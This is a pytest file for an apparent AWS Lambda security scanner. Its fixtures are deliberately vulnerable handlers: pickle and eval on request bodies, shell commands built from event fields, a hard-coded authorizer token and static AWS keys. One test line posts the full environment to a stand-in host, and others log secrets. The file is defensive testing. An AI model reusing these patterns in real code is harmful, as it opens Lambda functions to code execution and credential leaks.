"""What the walk tells beyond the labelled handlers: steps, entries, sources by trigger, patterns, calls to AWS, modules."""

import pytest

from lambdaudit.code.flow import analyse
from lambdaudit.code.flow.calls import Env, Hole, Text
from tests.code.flow.trees import Sources, analysis_of, kinds

PICKLES = """\
import marshal, pickle
import numpy as np

def handler(event, context):
    one = pickle.loads({0})
    two = marshal.loads({0})
    three = eval({0})
    four = np.load({0}, allow_pickle=True)
    return [one, two, three, four]
"""


def test_dangerous_readers_are_told_once_each_and_weighed_by_what_they_read() -> None:
    """Golden G-13: pickle, marshal, eval and numpy with pickling, one finding each; foreign is high, constant is a pattern."""
    foreign = kinds(PICKLES.format("event['body']"), "url")
    assert foreign == [
        ("deserialisation", 5, "high"),
        ("deserialisation", 6, "high"),
        ("code-evaluation", 7, "high"),
        ("deserialisation", 8, "high"),
    ]
    assert {found[2] for found in kinds(PICKLES.format("b'1'"), "url")} == {"constant"}
    assert len(kinds(PICKLES.format("b'1'"), "url")) == 4


AUTHORIZER = """\
def handler(event, context):
    response = {"isAuthorized": False, "context": {"AuthInfo": "defaultdeny"}}
    if event["routeKey"] == "GET /list-users" and event["headers"]["Authorization"] == "SecretTokenUsers":
        response = {"isAuthorized": True, "context": {"AuthInfo": "true-users"}}
    return response
"""


def test_an_authorizer_with_a_token_in_it() -> None:
    """Golden G-6 (d): a token in the code, a plain comparison, a header that this payload format never has."""
    found = analysis_of(AUTHORIZER, "httpapi").issues
    assert {issue.kind for issue in found} == {"authorizer-token", "token-comparison", "authorizer-header-case"}
    assert {issue.where.line for issue in found} == {3}
    assert "SecretTokenUsers" not in repr(found)
    assert "authorizer-header-case" not in {issue.kind for issue in analysis_of(AUTHORIZER, "apigateway").issues}


NUMBER = """\
import os, re

def handler(event, context):
    number = event["pathParameters"]["number"]
    if not re.match(r"{pattern}", number):
        return {{"statusCode": 400}}
    os.system("check " + number)
"""


@pytest.mark.parametrize(
    ("pattern", "safe"),
    [(r"^[0-9]{1,10}$", True), (r"^\d*$", True), (r"^\d+", False), (r"\d+$|x", False), (r"^[^;]+$", False), (r"^.{1,5}$", False)],
)
def test_a_pattern_protects_as_far_as_it_goes(pattern: str, safe: bool) -> None:
    """Golden G-9 in code: what a numeric pattern lets through decides, anchors and all."""
    assert (kinds(NUMBER.format(pattern=pattern), "apigateway") == []) is safe


STEPS = """\
import subprocess

def run(line):
    return subprocess.getoutput(line)

def handler(event, context):
    name = event["name"]
    line = f"host {name}"
    return run(line)
"""


def test_a_flow_is_told_step_by_step() -> None:
    flow = analysis_of(STEPS, "invoke").flows[0]
    assert (flow.label, flow.source, flow.sink) == ("event", "event.name", "subprocess.getoutput")
    told = [(step.where.line, step.text) for step in flow.steps]
    assert told[0] == (7, "event.name enters")
    assert (9, "passed to run() as line") in told
    assert told[-1] == (4, "reaches subprocess.getoutput")
    assert all(step.where.column for step in flow.steps)


SOURCES = [
    ("event['Records'][0]['body']", {"sqs"}, True),
    ("event['Records'][0]['messageId']", {"sqs"}, False),
    ("event['Records'][0]['eventSourceARN']", {"sqs"}, False),
    ("event['Records'][0]['s3']['bucket']['name']", {"s3"}, False),
    ("event['Records'][0]['s3']['object']['key']", {"s3"}, True),
    ("event['requestContext']['accountId']", {"url"}, False),
    ("event['requestContext']['accountId']", set(), False),
    ("event['requestContext']['accountId']", {"invoke"}, True),
    ("event['requestContext']['identity']['userAgent']", {"apigateway"}, True),
    ("event['headers']['host']", {"url"}, True),
    ("event['ResponseURL']", {"cloudformation"}, False),
    ("event['getObjectContext']['inputS3Url']", {"object-lambda"}, False),
    ("event['detail']['name']", {"eventbridge"}, True),
    ("event['anything']", {"schedule"}, False),
    ("event.get('account', 'x')", {"eventbridge"}, False),
    ("event['Records'][0]['Sns']['Message']", {"sns"}, True),
    ("event['Records'][0]['Sns']['TopicArn']", {"sns"}, False),
    ("event['records'][0]['value']", {"kafka"}, True),
    ("event['arguments']['id']", {"appsync"}, True),
    ("event['request']['userAttributes']['name']", {"cognito"}, True),
    ("event['userPoolId']", {"cognito"}, False),
    ("context.aws_request_id", {"url"}, False),
]


@pytest.mark.parametrize(("part", "triggers", "foreign"), SOURCES)
def test_who_writes_a_part_of_the_event(part: str, triggers: set[str], foreign: bool) -> None:
    source = f"import os\ndef handler(event, context):\n    os.system('x ' + str({part}))\n"
    assert bool(kinds(source, *triggers)) is foreign


ENTRIES = [
    ("app.handler", "/var/task/app.py"),
    ("src/app.handler", "/var/task/src/app.py"),
    ("src.app.handler", "/var/task/src/app.py"),
    ("pkg.handler", "/var/task/pkg/__init__.py"),
    ("layer.handler", "/opt/python/layer.py"),
]


@pytest.mark.parametrize(("handler", "path"), ENTRIES)
def test_the_handler_setting_finds_its_function(handler: str, path: str) -> None:
    source = b"import os\ndef handler(event, context):\n    os.system(event['x'])\n"
    result = analyse(Sources({path: source, "/var/task/other.py": b"x = 1\n"}), handler=handler)
    assert result.entry is not None
    assert (result.entry.where.source, result.entry.name, len(result.flows)) == (path, "handler", 1)


def test_libraries_in_the_package_are_not_walked_but_told() -> None:
    app = b"import requests, helper\ndef handler(event, context):\n    requests.post('https://a.example/', event['x'])\n"
    files = {
        "/var/task/app.py": app,
        "/var/task/helper.py": b"import yaml\n",
        "/var/task/requests/__init__.py": b"import os\ndef post(url, data):\n    os.system(data)\n",
        "/var/task/requests-2.31.0.dist-info/METADATA": b"",
        "/var/task/unused.py": b"import boto3\n",
    }
    result = analyse(Sources(files), handler="app.handler")
    assert result.flows == ()
    assert result.modules_reached == ("/var/task/app.py", "/var/task/helper.py")
    assert set(result.imports_reached) == {"requests", "yaml"}
    assert result.fed == ("requests",)


CALLS = """\
import functools, os
import boto3

session = boto3.Session(region_name="eu-west-1")
PREFIX = "orders"

@functools.lru_cache
def client(name):
    return session.client(name)

class Store:
    def __init__(self, table):
        self.table = boto3.resource("dynamodb").Table(table)
    def save(self, item):
        with self.table.batch_writer() as batch:
            batch.put_item(Item=item)

def handler(event, context):
    Store(f"{PREFIX}-{os.environ['STAGE']}").save({"id": event["id"]})
    client("s3").put_object(Bucket=os.environ.get("BUCKET", "spare"), Key=f"in/{event['id']}", Body=b"")
    for page in client("s3").get_paginator("list_objects_v2").paginate(Bucket="fixed"):
        pass
    client("ec2").get_waiter("instance_running").wait(InstanceIds=["i-1"])
    for item in boto3.resource("s3").Bucket("fixed").objects.filter(Prefix="a"):
        item.delete()
"""


def test_calls_to_aws_carry_what_is_known_of_their_arguments() -> None:
    calls = {
        (call.receiver.kind, call.receiver.service, call.receiver.sub, call.method): call for call in analysis_of(CALLS).calls
    }
    batch = calls["resource", "dynamodb", "BatchWriter", "put_item"]
    table = batch.receiver.parent
    assert table is not None
    assert table.arguments[0].texts == (Text(("orders-", Env("STAGE"))),)
    put = calls["client", "s3", "", "put_object"]
    bucket, key = put.keyword("Bucket"), put.keyword("Key")
    assert bucket is not None
    assert bucket.texts == (Text((Env("BUCKET", "spare"),)),)
    assert key is not None
    assert key.texts == (Text(("in/", Hole("event", "event.id"))),)
    assert put.receiver.parent is not None
    assert put.receiver.parent.kind == "session"
    assert ("paginator", "s3", "list_objects_v2", "paginate") in calls
    assert ("waiter", "ec2", "instance_running", "wait") in calls
    assert ("collection", "s3", "objects", "filter") in calls
    assert ("resource", "s3", "objects[]", "delete") in calls


MORE_CALLS = """\
import asyncio
import aioboto3, boto3
async def main():
    async with aioboto3.Session().client("sns") as client:
        await client.publish(TopicArn="t", Message="m")
def lookup(client, **arguments):
    return client.get_item(**arguments)
def handler(event, context):
    asyncio.run(main())
    s3 = boto3.resource("s3")
    s3.Bucket("a").objects.all().delete()
    s3.meta.client.copy_object(Bucket="a", Key="b", CopySource="c")
    for name in ("ec2", "rds"):
        boto3.client(name).describe_tags()
    dynamodb = boto3.client("dynamodb")
    lookup(dynamodb, TableName="one")
    lookup(dynamodb, TableName="two")
    queue = boto3.resource("sqs").get_queue_by_name(QueueName="n")
    for message in queue.receive_messages():
        message.delete()
    clients = {name: boto3.client(name) for name in ("kms", "ssm")}
    clients["kms"].decrypt(CiphertextBlob=b"")
    getattr(dynamodb, "delete_table")(TableName="old")
"""


def test_clients_are_followed_through_what_holds_them() -> None:
    calls = analysis_of(MORE_CALLS).calls
    told = {(call.receiver.kind, call.receiver.service, call.receiver.sub, call.method) for call in calls}
    assert told >= {
        ("client", "sns", "", "publish"),
        ("collection", "s3", "objects", "delete"),
        ("client", "s3", "", "copy_object"),
        ("client", "ec2", "", "describe_tags"),
        ("client", "rds", "", "describe_tags"),
        ("resource", "sqs", "Queue", "receive_messages"),
        ("resource", "sqs", "Message", "delete"),
        ("client", "kms", "", "decrypt"),
        ("client", "dynamodb", "", "delete_table"),
    }
    assert ("client", "ssm", "", "decrypt") not in told
    tables = [call.keyword("TableName") for call in calls if call.method == "get_item"]
    assert {name for table in tables if table is not None for name in table.constants} == {"one", "two"}


def test_secret_values_are_in_no_result() -> None:
    source = (
        "import boto3, pymysql\n"
        "c = boto3.client('s3', aws_access_key_id='AKIAIOSFODNN7EXAMPLE', aws_secret_access_key='wJalrXUtnFEMIK7MDENGbPxRfiCY')\n"
        "def handler(event, context):\n    c.get_object(Bucket='b', Key=event['k'])\n"
    )
    result = analysis_of(source)
    assert [issue.kind for issue in result.issues] == ["static-credentials"]
    assert "wJalrXUtn" not in repr(result)
    assert "AKIAIOS" not in repr(result)


def test_without_a_handler_setting_functions_that_look_like_handlers_are_walked() -> None:
    source = "import os\ndef on_order(event, context):\n    os.system(event['x'])\ndef helper(a, b):\n    os.system(a)\n"
    assert kinds(source, handler=None) == [("process", 3, "high")]


DISCLOSED = [
    ("requests.post('https://a.example/', json=dict(os.environ))", "environment-disclosed"),
    ("print(json.dumps(dict(os.environ)))", "environment-disclosed"),
    ("print(os.environ['AWS_SESSION_TOKEN'])", "environment-disclosed"),
    ("print(os.environ['DB_PASSWORD'])", "log-secret"),
    ("print(event['headers']['authorization'])", "log-secret"),
    ("print(os.environ['TABLE'])", ""),
    ("requests.post(os.environ['URL'], headers={'authorization': os.environ['API_TOKEN']})", ""),
    ("print(len(os.environ['DB_PASSWORD']))", ""),
]


@pytest.mark.parametrize(("call", "kind"), DISCLOSED)
def test_what_must_stay_inside(call: str, kind: str) -> None:
    """CODE-9: the environment and secrets in logs and requests."""
    source = f"import json, os, requests\ndef handler(event, context):\n    {call}\n"
    assert [flow.kind for flow in analysis_of(source, "url").flows if flow.confidence != "low"] == ([kind] if kind else [])


def test_state_files_and_credentials_of_the_same_code_are_issues() -> None:
    source = (
        "import boto3\nkeys = boto3.client('secretsmanager')\ndef handler(event, context):\n"
        "    with open('/tmp/key', 'w') as out:\n        out.write(keys.get_secret_value(SecretId='k')['SecretString'])\n"
        "    return open('/tmp/other').read()\n"
    )
    found = {(issue.kind, issue.where.line, issue.confidence) for issue in analysis_of(source).issues}
    assert found == {("tmp-left", 4, "high"), ("tmp-read", 6, "low")}
